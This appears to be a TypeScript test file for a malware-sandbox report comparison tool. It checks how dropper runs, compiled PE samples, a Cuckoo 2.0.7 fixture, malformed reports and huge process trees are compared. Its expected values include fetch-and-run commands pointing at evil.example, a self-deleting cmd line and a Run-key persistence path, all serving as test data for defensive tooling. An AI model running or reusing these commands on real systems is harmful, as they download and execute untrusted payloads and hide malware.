// The comparison's digest and join on real reports: two runs of a dropper and two PE programs
// (compiled here with mingw-w64) processed by a real service's engine, read from /tasks/summary
// and /tasks/report; a report in Cuckoo 2.0.7's shape (its keys and value shapes as
// Cuckoo 2.0.7's processing modules, cuckoo/processing/*.py, write them) against Aviary's; a hostile report; and
// trees of 100,000 processes, wide and deep.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { startHarness, type Harness } from '../../../../test/service-harness'
import { dropperRuns, reportedAnalysis } from '../../../../test/compare-analyses'
import { MAX_ITEMS, reportFacts, type ReportFacts } from './facts'
import { INDICATOR_CAPS, readIndicators } from '../../../shared/report-indicators'
import { compareFacts, differs, tally, type Row } from './diff'
import { CUCKOO_207 } from '../../../../test/fixtures/cuckoo-2.0.7-report'
import { compileC } from '../../../../test/fixtures/compiled'

let h: Harness
let work: string
const json = async (p: string): Promise<unknown> => (await fetch(`${h.url}${p}`)).json()

beforeAll(async () => {
  h = await startHarness({ engine: true, machines: { machines: [] } })
  work = mkdtempSync(path.join(tmpdir(), 'aviary-compare-'))
})
afterAll(async () => {
  await h?.stop()
  rmSync(work, { recursive: true, force: true })
})

const where = <T,>(rows: Row<T>[], key: string) => rows.find((r) => r.key === key)?.where
const keys = <T,>(rows: Row<T>[], w: 'a' | 'b' | 'both') => rows.filter((r) => r.where === w).map((r) => r.key)
const set = (c: ReturnType<typeof compareFacts>, title: string) => c.staticSets.find((s) => s.title === title)?.rows ?? []

describe('two runs of a dropper, from a real service', () => {
  let a: ReportFacts
  let b: ReportFacts
  let ids: [number, number]

  beforeAll(async () => {
    const runs = dropperRuns()
    ids = [await reportedAnalysis(h, runs.a), await reportedAnalysis(h, runs.b)]
    a = reportFacts(await json(`/tasks/summary/${ids[0]}`))
    b = reportFacts(await json(`/tasks/summary/${ids[1]}`))
  }, 120_000)

  it('the summary holds everything compared: its digest is the full report\'s', async () => {
    expect(reportFacts(await json(`/tasks/report/${ids[1]}`))).toEqual(b)
  })

  it('marks signatures, techniques and the score by side', () => {
    const c = compareFacts(a, b)
    expect(where(c.signatures, 'contacts_bare_ip')).toBe('b')
    expect(where(c.signatures, 'drops_executable')).toBe('both')
    expect(where(c.techniques, 'T1071')).toBe('b')
    expect(where(c.techniques, 'T1105')).toBe('both')
    // Each signature keeps its ATT&CK ids, in Cuckoo 2.0.7's {id: {short, long}} as Aviary writes it.
    expect(b.signatures.find((s) => s.key === 'contacts_bare_ip')?.ttps.map((t) => t.id)).toEqual(['T1071'])
    const score = c.overview.find((r) => r.key === 'Score')
    expect(score).toMatchObject({ where: 'both', changed: true })
    expect([score?.a?.value, score?.b?.value]).toEqual([String(a.score), String(b.score)])
    expect(b.score).toBeGreaterThan(a.score ?? 0)
  })

  it('joins processes by name, by command line and by their place in the tree', () => {
    const c = compareFacts(a, b)
    expect(keys(c.processNames, 'a')).toEqual(['curl'])
    expect(keys(c.processNames, 'b')).toEqual(['wget'])
    expect(keys(c.processNames, 'both').sort()).toEqual(['dropper', 'payload', 'sh'])
    expect(where(c.processLines, 'sh\nsh -c chmod +x /tmp/payload && /tmp/payload')).toBe('both')
    expect(where(c.processLines, 'dropper\n/tmp/dropper --quiet')).toBe('b')
    expect(c.processPaths.find((r) => r.a?.names.join(' > ') === 'dropper > sh > payload')?.where).toBe('both')
    expect(c.processPaths.find((r) => r.b?.names.join(' > ') === 'dropper > wget')?.where).toBe('b')
  })

  it('joins domains, addresses and HTTP requests of the capture', () => {
    const c = compareFacts(a, b)
    expect(c.domains.map((r) => [r.key, r.where])).toEqual([['c2.example', 'b'], ['evil.example', 'both']])
    expect(c.domains.find((r) => r.key === 'c2.example')?.b?.ips).toEqual(['104.16.1.1'])
    expect(where(c.addresses, '45.33.32.156')).toBe('b')
    expect(c.addresses.find((r) => r.key === '45.33.32.156')?.b?.ports).toEqual(['tcp/4444'])
    expect(where(c.addresses, '93.184.216.34')).toBe('both')
    expect(c.http.map((r) => [r.key, r.where, r.a?.statuses ?? r.b?.statuses])).toEqual([
      ['GET http://evil.example/payload', 'a', ['200']], ['GET http://evil.example/payload2', 'b', ['404']]
    ])
    expect(c.http[1]?.b?.userAgent).toBe('Wget/1.21.3')
  })

  it('joins dropped files by sha256, with their names and paths', () => {
    const c = compareFacts(a, b)
    const echo = readFileSync('/bin/echo')
    const sha = execFileSync('sha256sum', ['/bin/echo']).toString().split(' ')[0]
    expect(c.dropped.find((r) => r.key === sha)).toMatchObject({ where: 'both', changed: false, a: { paths: ['/tmp/payload'], size: echo.length } })
    expect(keys(c.dropped, 'b')).toHaveLength(1)
    expect(c.dropped.find((r) => r.where === 'b')?.b).toMatchObject({ names: ['notes.txt'], paths: ['/tmp/.cache/notes.txt'], type: 'ASCII text' })
  })

  it('joins the files the runs touched by path and by name, and the command lines they ran', () => {
    const c = compareFacts(a, b)
    expect(c.files.map((r) => [r.key, r.where])).toEqual([['/tmp/.cache/notes.txt', 'b'], ['/tmp/payload', 'both']])
    expect(c.fileNames.map((r) => [r.key, r.where, r.changed])).toEqual([['notes.txt', 'b', false], ['payload', 'both', false]])
    expect(c.fileNames.find((r) => r.key === 'notes.txt')?.b?.paths).toEqual(['/tmp/.cache/notes.txt'])
    expect(where(c.commands, 'curl -s http://evil.example/payload -o /tmp/payload')).toBe('a')
    expect(where(c.commands, 'wget -q http://evil.example/payload2 -O /tmp/payload')).toBe('b')
    expect(where(c.commands, 'sh -c chmod +x /tmp/payload && /tmp/payload')).toBe('both')
    // A Linux run has neither.
    expect([c.mutexes, c.registryKeys]).toEqual([[], []])
  })

  it('compares the ELF static facts: hashes and sizes differ, libselinux is only in B', () => {
    const c = compareFacts(a, b)
    for (const f of ['SHA256', 'Size', 'ELF Entry point']) expect(c.staticFacts.find((r) => r.key === f), f).toMatchObject({ where: 'both', changed: true })
    expect(c.staticFacts.find((r) => r.key === 'ELF Class')).toMatchObject({ where: 'both', changed: false, a: { value: 'ELF64' } })
    expect(set(c, 'ELF libraries').map((r) => [r.key, r.where])).toEqual([['libc.so.6', 'both'], ['libselinux.so.1', 'b']])
    expect(where(set(c, 'ELF sections'), '.text')).toBe('both')
    expect(tally(set(c, 'Strings')).b).toBeGreaterThan(0)
  })
})

describe('two PE programs compiled here', () => {
  it('compares their imports, sections and imphash', async () => {
    const build = (name: string, source: string, lib: string): Buffer =>
      readFileSync(compileC({ compiler: 'x86_64-w64-mingw32-gcc', source, flags: ['-O2', '-s'], libs: [`-l${lib}`], out: path.join(work, `${name}.exe`) }))
    const box = build('box', '#include <windows.h>\nint main(void){MessageBoxA(0,"hello","box",0);return 0;}\n', 'user32')
    const net = build('net', '#include <winsock2.h>\nint main(void){WSADATA w;WSAStartup(0x202,&w);SOCKET s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a={0};a.sin_family=AF_INET;a.sin_port=htons(4444);connect(s,(struct sockaddr*)&a,sizeof a);return 0;}\n', 'ws2_32')
    const proc = [{ pid: 300, ppid: 1, command_line: 'C:\\Users\\u\\AppData\\Local\\Temp\\x.exe', exe: 'C:\\Users\\u\\AppData\\Local\\Temp\\x.exe' }]
    const [ia, ib] = [await reportedAnalysis(h, { name: 'box.exe', sample: box, processes: proc }), await reportedAnalysis(h, { name: 'net.exe', sample: net, processes: proc })]
    const c = compareFacts(reportFacts(await json(`/tasks/summary/${ia}`)), reportFacts(await json(`/tasks/summary/${ib}`)))
    const imports = set(c, 'PE imports')
    expect(where(imports, 'user32.dll!MessageBoxA')).toBe('a')
    expect(where(imports, 'ws2_32.dll!connect')).toBe('b')
    expect(keys(imports, 'both').some((k) => k.startsWith('kernel32.dll!'))).toBe(true)
    expect(where(set(c, 'PE sections'), '.text')).toBe('both')
    expect(c.staticFacts.find((r) => r.key === 'PE imphash')).toMatchObject({ where: 'both', changed: true })
    expect(c.staticFacts.find((r) => r.key === 'PE machine')).toMatchObject({ where: 'both', changed: false })
    expect(c.staticFacts.find((r) => r.key === 'File type')?.a?.value).toMatch(/^PE32\+ executable/)
  }, 120_000)
})

describe('the shared reader of indicators', () => {
  it("compares the domains the task search indexes, with the same cap, and says what it left out", () => {
    const n = INDICATOR_CAPS.domains + 500
    const report = { network: { domains: Array.from({ length: n }, (_, i) => ({ domain: `h${i}.flood.example`, ip: '' })) } }
    const f = reportFacts(report)
    expect(f.domains.map((d) => d.key)).toEqual(readIndicators(report).domains.values().map((d) => d.name))
    expect(f.domains).toHaveLength(INDICATOR_CAPS.domains)
    expect(f.capped).toEqual([`Domains: the first ${INDICATOR_CAPS.domains.toLocaleString('en-US')} distinct entries are compared (500 more left out)`])
  })

  it('compares the mutexes and registry keys search indexes, with the same caps, and says what it left out', () => {
    const mutex = Array.from({ length: INDICATOR_CAPS.mutexes + 7 }, (_, i) => `Global\\m${i}`)
    const regkey_written = Array.from({ length: INDICATOR_CAPS.keys + 3 }, (_, i) => `HKEY_CURRENT_USER\\Software\\k${i}`)
    const report = { behavior: { summary: { mutex, regkey_written } } }
    const f = reportFacts(report)
    const ind = readIndicators(report)
    expect(f.mutexes.map((m) => m.key)).toEqual(ind.mutexes.values())
    expect(f.mutexes).toHaveLength(INDICATOR_CAPS.mutexes)
    expect(f.registryKeys).toHaveLength(INDICATOR_CAPS.keys)
    expect(f.capped).toEqual([
      `Mutexes: the first ${INDICATOR_CAPS.mutexes.toLocaleString('en-US')} distinct entries are compared (7 more left out)`,
      `Registry keys: the first ${INDICATOR_CAPS.keys.toLocaleString('en-US')} distinct entries are compared (3 more left out)`
    ])
  })
})

describe('reports of any origin', () => {
  it('reads Cuckoo 2.0.7\'s shapes: the tree, ttp objects, host strings, http_ex paths, dropped and PE keys', () => {
    const f = reportFacts(CUCKOO_207)
    expect(f.title).toBe('invoice.exe')
    expect(f.score).toBe(6.4)
    expect(f.signatures.map((s) => [s.key, s.severity, s.ttps.map((t) => t.id)])).toEqual([['persistence_autorun', 3, ['T1060']], ['network_http', 2, []]])
    expect(f.techniques).toEqual([{ id: 'T1060', name: 'Registry Run Keys / Startup Folder', description: 'Adding an entry to the run keys in the Registry…' }])
    expect(f.processCount).toBe(2)
    expect(f.processPaths.map((p) => p.names)).toEqual([['invoice.exe'], ['invoice.exe', 'cmd.exe']])
    expect(f.processLines[1]).toMatchObject({ name: 'cmd.exe', commandLine: 'cmd.exe /c ping -n 3 127.0.0.1 & del invoice.exe', pids: [2612] })
    // Addresses a flow went to, a dead host (tried, no answer) included; in the order the shared reader meets them.
    expect(f.addresses.map((x) => [x.key, x.ports])).toEqual([['93.184.216.34', ['tcp/80']], ['8.8.8.8', ['udp/53']], ['10.0.0.9', []]])
    // The capture's full URL and the replay's path on its host are one request, seen by both.
    expect(f.http).toEqual([{ key: 'GET http://evil.example/gate.php', method: 'GET', url: 'http://evil.example/gate.php', statuses: ['200'], sources: ['capture', 'proxy (http_ex)'], userAgent: 'Mozilla/4.0' }])
    expect(f.dropped).toEqual([expect.objectContaining({ key: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', paths: ['C:\\Users\\cuckoo\\AppData\\Roaming\\updater.exe'], count: 1 })])
    const fact = (k: string) => f.staticFacts.find((x) => x.key === k)?.value
    expect([fact('PE imphash'), fact('PE timestamp'), fact('PE signature'), fact('Version CompanyName')]).toEqual(['f34d5f2d4577ed6d9ceec516c1f5a744', '2017-12-30 10:11:12', 'none', 'Invoices Ltd'])
    const items = (t: string) => f.staticSets.find((s) => s.title === t)?.items.map((i) => i.key)
    expect(items('PE imports')).toEqual(['kernel32.dll!CreateFileA', 'kernel32.dll!WriteFile', 'advapi32.dll!RegSetValueExA'])
    expect(f.staticSets.find((s) => s.title === 'PE sections')?.items[1]).toEqual({ key: 'UPX1', detail: 'virtual 0x00004000, raw 0x00003e00, entropy 7.91' })
    expect(items('YARA rules')).toEqual(['UPX'])
  })

  it("compares Cuckoo 2.0.7's summary: files (moves' both ends), names at other paths, mutexes, registry keys, command lines", () => {
    const f = reportFacts(CUCKOO_207)
    expect(f.files.map((x) => x.key)).toEqual([
      'C:\\Users\\cuckoo\\AppData\\Roaming\\updater.exe', 'C:\\Users\\cuckoo\\AppData\\Local\\Temp\\upd.tmp'
    ])
    expect(f.mutexes).toEqual([{ key: 'Global\\updater-singleton' }])
    expect(f.registryKeys).toEqual([{ key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater' }])
    expect(f.commands).toEqual([{ key: 'cmd.exe /c ping -n 3 127.0.0.1 & del invoice.exe' }])
    // The same program written under another user's profile, a second mutex, the Run key only read.
    const other = reportFacts({
      behavior: {
        summary: {
          file_created: ['C:\\Users\\victim\\AppData\\Roaming\\updater.exe'],
          mutex: ['Global\\updater-singleton', 'Local\\ZonesCounterMutex'],
          regkey_opened: ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater'],
          regkey_read: ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\MachineGuid']
        }
      }
    })
    const c = compareFacts(f, other)
    expect(where(c.files, 'C:\\Users\\victim\\AppData\\Roaming\\updater.exe')).toBe('b')
    expect(where(c.files, 'C:\\Users\\cuckoo\\AppData\\Local\\Temp\\upd.tmp')).toBe('a')
    // One name at other paths: in both, and marked as differing.
    expect(c.fileNames.find((r) => r.key === 'updater.exe')).toMatchObject({
      where: 'both', changed: true, a: { paths: ['C:\\Users\\cuckoo\\AppData\\Roaming\\updater.exe'] }, b: { paths: ['C:\\Users\\victim\\AppData\\Roaming\\updater.exe'] }
    })
    expect(c.mutexes.map((r) => [r.key, r.where])).toEqual([['Global\\updater-singleton', 'both'], ['Local\\ZonesCounterMutex', 'b']])
    expect(c.registryKeys.map((r) => [r.key, r.where])).toEqual([
      ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', 'both'],
      ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\MachineGuid', 'b']
    ])
    expect(c.commands.map((r) => r.where)).toEqual(['a'])
  })

  it('reads an older Aviary report: ttp as {id: name}, hosts as objects, ELF libraries as DT_NEEDED tags, no tree', () => {
    const f = reportFacts({
      info: { score: 1 }, signatures: [{ name: 'x', severity: 2, ttp: { T1105: 'Ingress Tool Transfer' } }],
      behavior: { processes: [{ pid: 1, process_name: 'a', command_line: 'a -x' }, { pid: 2, process_name: 'a', command_line: 'a -x' }] },
      network: { hosts: [{ ip: '1.2.3.4' }] },
      static: { elf: { header: { class: 'ELF32' }, dynamic_tags: [{ tag: '0x1', type: 'NEEDED', value: 'Shared library: [libz.so.1]' }] } }
    })
    expect(f.techniques).toEqual([{ id: 'T1105', name: 'Ingress Tool Transfer', description: '' }])
    expect(f.processLines).toEqual([{ key: 'a\na -x', name: 'a', commandLine: 'a -x', count: 2, pids: [1, 2] }])
    expect(f.processPaths).toEqual([])
    expect(f.addresses.map((x) => x.key)).toEqual(['1.2.3.4'])
    expect(f.staticFacts).toContainEqual({ key: 'ELF Class', value: 'ELF32' })
    expect(f.staticSets.find((s) => s.title === 'ELF libraries')?.items).toEqual([{ key: 'libz.so.1', detail: '' }])
  })

  it('never throws on a hostile report, and keeps its text as text', () => {
    const hostile = {
      info: { score: 'ten', machine: 42 }, target: { file: { name: ['x'], size: {} } },
      signatures: [null, 3, { name: 'evil\u202Eexe.txt', severity: 99, ttp: 'T1' }, { ttp: { a: 5 } }],
      behavior: {
        processtree: [{ pid: 'x', process_name: 7, children: 'no' }, null, { children: [null, { process_name: 'k' }] }], processes: 'x',
        summary: { mutex: 'x', regkey_written: [5, null, ['HKCU\\a', 7], {}], file_created: [{}, '', '/tmp/x/'], command_line: [[], 'sh'] }
      },
      network: { hosts: 'x', domains: [{ domain: 5 }], dns: [{ request: 'A.Example.', answers: 'x' }], http: [{ uri: ['x'] }, { host: 'h', method: 'post', path: '/p', status: {} }], tcp: [null, { dst: 1 }], http_ex: { a: 1 } },
      dropped: [{ sha256: 5 }, { md5: 'ABC' }], static: { pe_sections: 'x', pe_imports: [{ dll: 3, imports: 'x' }], elf: 'x', pdf: [{ javascript: 2, urls: ['http://u'] }, 'x'], office: { macros: [{ filename: 'M.bas', orig_code: 'a\r\nb' }, 'x', { filename: 7 }], vba: ['x', 1], format: true } }, strings: 'abc'
    }
    const f = reportFacts(hostile)
    expect(f.score).toBeNull()
    expect(f.signatures.map((s) => [s.key, s.severity])).toEqual([['evil\u202Eexe.txt', 3]])
    expect(f.processNames.map((p) => [p.key, p.count])).toEqual([['7', 1], ['(unknown)', 1], ['k', 1]])
    // Numbers are read as text, as everywhere in the views; a host named by an HTTP request is a domain the run met.
    expect(f.domains.map((d) => d.key)).toEqual(['5', 'a.example', 'h'])
    expect(f.http.map((x) => x.key)).toEqual(['POST http://h/p'])
    expect(f.dropped.map((d) => d.key)).toEqual(['5', 'md5 abc'])
    expect(f.staticFacts).toContainEqual({ key: 'PDF javascript', value: '2' })
    expect(f.staticSets.find((s) => s.title === 'PDF urls')?.items).toEqual([{ key: 'http://u', detail: '' }])
    expect(f.staticFacts).toContainEqual({ key: 'Office format', value: 'true' })
    expect(f.staticSets.find((s) => s.title === 'Office macro modules')?.items).toEqual([{ key: 'M.bas', detail: '2 lines, 4 characters' }, { key: '7', detail: '0 lines, 0 characters' }])
    expect(f.mutexes).toEqual([])
    expect(f.registryKeys).toEqual([{ key: 'HKCU\\a' }])
    expect(f.files).toEqual([{ key: '/tmp/x/' }])
    expect(f.fileNames).toEqual([{ key: 'x', paths: ['/tmp/x/'] }])
    expect(f.commands).toEqual([{ key: 'sh' }])
    for (const v of [null, undefined, 5, 'x', [], [[]], { behavior: { processtree: [[]] } }, { behavior: { summary: [] } }]) expect(() => reportFacts(v)).not.toThrow()
  })
})

describe('large reports', () => {
  it('a tree of 100,000 processes under one root: all counted, the distinct lists capped and said so', () => {
    const kids = Array.from({ length: 100_000 }, (_, i) => ({ pid: i + 2, process_name: `p${i % 30_000}.exe`, command_line: `p.exe ${i}`, children: [] }))
    const f = reportFacts({ behavior: { processtree: [{ pid: 1, process_name: 'root.exe', children: kids }] } })
    expect(f.processCount).toBe(100_001)
    expect(f.processNames).toHaveLength(MAX_ITEMS)
    expect(f.processLines).toHaveLength(MAX_ITEMS)
    expect(f.capped.some((n) => /^Command lines: the first 20,000 distinct entries are compared \(80,001 more left out\)$/.test(n))).toBe(true)
    const c = compareFacts(f, f)
    expect(c.processLines.filter(differs)).toHaveLength(0)
  })

  it('a chain 100,000 deep: walked without recursion, each place named by its first and last ancestors', () => {
    let chain: Record<string, unknown> = { pid: 100_000, process_name: 'leaf' }
    for (let i = 99_999; i > 0; i--) chain = { pid: i, process_name: `p${i}`, children: [chain] }
    const f = reportFacts({ behavior: { processtree: [chain] } })
    expect(f.processCount).toBe(100_000)
    const leaf = f.processPaths.find((p) => p.names[p.names.length - 1] === 'leaf')
    // The paths past the cap are counted, not kept: the leaf is one of them; a kept deep one reads so.
    expect(leaf).toBeUndefined()
    expect(f.processPaths[MAX_ITEMS - 1]?.names).toEqual(['p1', 'p2', `… ${MAX_ITEMS - 8} more …`, ...Array.from({ length: 6 }, (_, i) => `p${MAX_ITEMS - 5 + i}`)])
  })
})
